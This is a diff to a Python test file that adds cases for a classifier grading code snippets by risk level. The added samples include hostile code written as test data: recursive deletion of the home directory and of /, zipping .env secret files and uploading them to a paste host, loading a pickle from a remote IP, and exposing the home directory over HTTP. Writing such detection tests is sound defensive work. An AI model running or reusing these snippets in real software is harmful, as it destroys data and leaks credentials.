@@ -1294,6 +1294,76 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             """,
             H,
         ),
+        # harm hidden in ordinary helpers: defaults, option defaults, globs, URLs, partials
+        (
+            """
+            import os, shutil
+            from pathlib import Path
+            def clean(cfg):
+                out = Path(os.path.expanduser(cfg.get("output_dir", "~")))
+                for child in out.iterdir():
+                    shutil.rmtree(child)
+            clean({})
+            """,
+            H,
+        ),
+        (
+            """
+            import os, click
+            @click.command()
+            @click.option("--root", default="/")
+            def prune(root):
+                for d, _, files in os.walk(root):
+                    for f in files:
+                        os.remove(os.path.join(d, f))
+            prune()
+            """,
+            H,
+        ),
+        (
+            """
+            import io, zipfile, requests
+            from pathlib import Path
+            def collect(root=Path.home()):
+                buf = io.BytesIO()
+                with zipfile.ZipFile(buf, "w") as zf:
+                    for p in root.rglob(".env*"):
+                        zf.write(p)
+                return buf.getvalue()
+            requests.put("https://paste.example.net/u", data=collect())
+            """,
+            C,
+        ),
+        (
+            """
+            import pandas as pd
+            df = pd.read_pickle("http://203.0.113.88/shared/features.pkl")
+            """,
+            C,
+        ),
+        (
+            """
+            import pandas as pd
+            df = pd.read_pickle("cache/features.pkl")
+            """,
+            M,
+        ),
+        (
+            """
+            import functools, http.server, os
+            handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=os.path.expanduser("~"))
+            http.server.ThreadingHTTPServer(("0.0.0.0", 8000), handler).serve_forever()
+            """,
+            H,
+        ),
+        (
+            """
+            from pydantic_settings import BaseSettings, SettingsConfigDict
+            class Settings(BaseSettings):
+                model_config = SettingsConfigDict(env_file=".env")
+            """,
+            M,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
